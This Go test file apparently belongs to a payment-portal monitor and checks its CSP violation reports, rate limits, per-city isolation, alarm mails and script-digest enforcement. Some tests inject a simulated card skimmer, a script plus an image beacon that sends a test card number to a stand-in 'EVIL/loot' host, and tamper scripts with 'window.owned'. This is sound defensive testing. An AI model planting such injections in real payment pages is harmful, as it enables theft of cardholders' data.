package app

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/alecthomas/kong"

	"clearwell/internal/cardscan"
	"clearwell/internal/incident"
	"clearwell/internal/sighting"
	"clearwell/internal/watch"
	"clearwell/internal/watch/browser"
	"clearwell/internal/web"
	"clearwell/internal/web/webtest"
)

// report sends what a browser would, from a network.
func (c *cities) report(host, base, network, blocked string) answered {
	c.Helper()
	body := fmt.Sprintf(`{"csp-report":{"document-uri":"http://%s%s/pay/quo_01jz3k5v7q8w9x0y1z2a","effective-directive":"script-src-elem","blocked-uri":%q}}`, host, base, blocked)
	r := httptest.NewRequestWithContext(c.Context(), http.MethodPost, "http://"+host+base+web.ReportPath, strings.NewReader(body))
	r.Header.Set("Content-Type", "application/csp-report")
	r.RemoteAddr = network + ":1000"
	w := httptest.NewRecorder()
	c.doors.ServeHTTP(w, r)
	return answered{w.Code, w.Header(), w.Body.String()}
}

// reported has browsers of two networks report something of a city's page.
func (c *cities) reported(p *place) {
	c.Helper()
	for i, network := range []string{"198.18.7.1", "198.19.7.1"} {
		if got := c.report(p.host, "", network, "https://"+string(p.slug)+".evil.example/skim.js"); got.status != http.StatusNoContent || got.body != "" {
			c.Fatalf("report %d is answered %d %s", i, got.status, got.body)
		}
	}
	all, err := c.sightings.List(c.Context(), p.slug, false)
	c.must(err)
	if len(all) == 0 || all[0].AlarmedAt.IsZero() {
		c.Fatalf("what %s's browsers report is not kept, or not told: %+v", p.slug, all)
	}
	p.seen = all[0].ID
}

// What browsers report at one city is the other's by no address.
func TestTwoCitiesShareNoReport(t *testing.T) {
	each(t, func(c *cities) {
		c.both(func(here, other *place) {
			c.untouched("a report", other, func() {
				c.reported(here)
				c.report("pay.shared.localhost", "/"+string(here.slug), "198.18.9.1", "https://elsewhere.example")
			})
		})
		c.untouched("a report for nobody", c.east, func() {
			for _, at := range [][2]string{{"pay.nowhere.localhost", ""}, {"pay.shared.localhost", "/nowhere"}, {"pay.shared.localhost", ""}} {
				if got := c.report(at[0], at[1], "198.18.9.1", "inline"); got.status != http.StatusNotFound {
					c.Errorf("%v is answered %d", at, got.status)
				}
			}
		})
	})
}

// Reports are bounded in number and size, whatever is in them, and of another
// media type they are no reports: what another site may send without asking.
func TestReportsAreBounded(t *testing.T) {
	c := settleAt(t, "http://pay.shared.localhost", "http://processor.localhost")
	count := func() (reports int64) {
		all, err := c.sightings.List(c.Context(), "eastwell", true)
		c.must(err)
		for _, s := range all {
			reports += s.Reports
		}
		return reports
	}
	for range 100 {
		c.report(c.east.host, "", "198.18.7.1", "inline")
	}
	if got := count(); got != 30 {
		t.Errorf("one network is heard %d times", got)
	}
	c.clk.Advance(time.Minute)
	before := count()
	for i := range 200 {
		c.report(c.east.host, "", fmt.Sprintf("198.18.%d.1", i), "inline")
	}
	if got := count() - before; got != 60 {
		t.Errorf("one town is heard %d times at once", got)
	}
	c.clk.Advance(time.Hour)
	before = count()
	c.report(c.east.host, "", "198.18.7.1", "https://evil.example/"+strings.Repeat("x", 70<<10))
	for _, mediaType := range []string{"text/plain", "application/json", "application/x-www-form-urlencoded", ""} {
		r := httptest.NewRequestWithContext(c.Context(), http.MethodPost, "http://"+c.east.host+web.ReportPath, strings.NewReader(`{"csp-report":{"blocked-uri":"inline"}}`))
		r.Header.Set("Content-Type", mediaType)
		w := httptest.NewRecorder()
		c.doors.ServeHTTP(w, r)
		if w.Code != http.StatusNotFound {
			t.Errorf("a report as %q is answered %d", mediaType, w.Code)
		}
	}
	if got := count(); got != before {
		t.Errorf("%d reports that are none are kept", got-before)
	}
}

// A real browser that meets a skimmer refuses it and says so; the report is kept
// without the card that the skimmer had put into it, the town is told by mail,
// and the prober sees the same page changed. Without a policy nothing is refused,
// and nothing reported.
func TestBrowsersReportASkimmer(t *testing.T) {
	l := watchFrom(t)
	english, views := l.in("en"), []watch.View{l.chromium(browser.Face{})}
	if report, _ := english.Look(t.Context(), views); report.Verdict() != watch.Good {
		t.Fatal(report.Words(l.words).Text)
	}
	if all := l.reports(); len(all) != 0 {
		t.Fatalf("a page that is as it should be is reported: %+v", all)
	}
	skim := inBody(`<script src="EVIL/skim"></script><img src="EVIL/loot?n=4242424242424242" alt="">`)(l.evil)
	l.meddle(skim)
	for range sighting.Enough {
		report, _ := english.Look(t.Context(), views)
		if report.Verdict() != watch.Changed {
			t.Fatal("the prober does not see the skimmer")
		}
	}
	if len(l.drop.came) != 0 {
		t.Errorf("the skimmer gets out: %v", l.drop.came)
	}
	told := map[string]bool{}
	for _, s := range l.reports() {
		told[s.Report.Directive] = !s.AlarmedAt.IsZero() && s.Report.Page == "/eastwell/pay/{quo}" && s.PageManifest == english.Manifest.PageManifest && s.Report.Origin == sighting.Page
	}
	if !told["script-src-elem"] || !told["img-src"] {
		t.Errorf("told are %v: %+v", told, l.reports())
	}
	for _, r := range l.rows() {
		if r.table == "sightings" && cardscan.Contains([]byte(r.String())) {
			t.Errorf("the card is kept: %s", r)
		}
	}
	l.mailed("ALARM", "/eastwell/pay/{quo}", "clearwell reports show --city eastwell see_")
	l.meddle(func(r *http.Request, header http.Header, body string) string {
		body = skim(r, header, body)
		header.Del("Content-Security-Policy")
		return body
	})
	before := len(l.reports())
	english.Look(t.Context(), views)
	if len(l.drop.came) == 0 || len(l.reports()) != before {
		t.Errorf("without a policy %v gets out, and %d are reported: this proves nothing", l.drop.came, len(l.reports())-before)
	}
}

func (l *lookout) reports() []sighting.Sighting {
	l.Helper()
	all, err := l.sightings.List(l.Context(), "eastwell", true)
	l.must(err)
	return all
}

// mailed delivers what waits, and fails unless one mail says all of it.
func (l *lookout) mailed(wanted ...string) {
	l.Helper()
	_, err := l.outbox.Deliver(l.Context())
	l.must(err)
	files, err := filepath.Glob(filepath.Join(l.mail, "*.eml"))
	l.must(err)
	if len(files) != 1 {
		l.Fatalf("%d mails", len(files))
	}
	text, err := os.ReadFile(files[0])
	l.must(err)
	for _, want := range wanted {
		if !strings.Contains(unfolded(string(text)), want) {
			l.Errorf("the mail does not say %q:\n%s", want, text)
		}
	}
}

// A script that the page does not name the digest of is refused, also from our
// own origin: the digest is not asked of the attacker's kindness.
func TestOwnScriptsNeedADigest(t *testing.T) {
	p := draw(t)
	runs := func(change tampering) bool {
		p.reload(change)
		p.tab.Await(`document.readyState === "complete"`)
		return webtest.Ask[bool](p.tab, `Boolean(window.owned)`)
	}
	bare := func(path string, header http.Header, body string) string {
		if strings.HasSuffix(path, ".js") {
			return body + ";window.owned = true"
		}
		return strings.ReplaceAll(digests.ReplaceAllString(body, ""), `.js"`, `.js?`+fmt.Sprint(len(header))+`"`)
	}
	if runs(bare) {
		t.Error("a script without a digest runs")
	}
	if !runs(func(path string, header http.Header, body string) string {
		header.Del("Integrity-Policy")
		return bare(path, header, body)
	}) {
		t.Error("it does not run even where the header is taken away: this proves nothing")
	}
}

// The command that a report types is one that there is, with a scope that
// incidents take.
func TestReportsTypeACommandThatIsTaken(t *testing.T) {
	c := settleAt(t, "http://pay.shared.localhost", "http://processor.localhost")
	c.reported(c.east)
	town, err := c.towns.ByID("eastwell")
	c.must(err)
	one, err := c.sightings.Find(t.Context(), "eastwell", c.east.seen)
	c.must(err)
	out := &heard{}
	c.must(printReport(Process{Out: out}, town, one))
	found := typedCommand.FindStringSubmatch(out.String())
	if found == nil || !strings.Contains(out.String(), one.PageManifest) || one.PageManifest == "" || !strings.Contains(out.String(), c.release) {
		t.Fatalf("what is missing of the command, the manifest and the release:\n%s", out)
	}
	if _, err := incident.ParseScope(found[2]); err != nil {
		t.Errorf("%s: %v", found[2], err)
	}
	parser, err := kong.New(&commands{}, kong.Vars{"layouts": "", "measurements": ""})
	c.must(err)
	if _, err := parser.Parse(append(strings.Fields(found[1]), found[2])); err != nil {
		t.Errorf("%s: %v", found[0], err)
	}
	var sample map[string]any
	c.must(json.Unmarshal([]byte(one.Report.Sample), &sample))
	if sample["effective-directive"] != "script-src-elem" {
		t.Errorf("kept is %s", one.Report.Sample)
	}
}

// Alarms go in the language that the town sets for those who look after its
// portal, and in English where it sets none.
func TestAlarmsGoInTheTownsLanguage(t *testing.T) {
	each(t, func(c *cities) {
		file := strings.Replace(string(c.east.file()), "contact:\n", "contact:\n  language: es\n", 1)
		c.must(c.found(c.Context(), "eastwell.yaml", []byte(file)))
		c.reported(c.east)
		c.reported(c.west)
		languages := map[string]any{}
		for _, r := range c.rows() {
			if r.table == "outbox_messages" && r.cells["kind"] == "page_alarm" {
				languages[r.city()] = r.cells["language"]
			}
		}
		if languages["eastwell"] != "es" || languages["westwell"] != "en" {
			c.Errorf("alarms are in %v", languages)
		}
	})
}
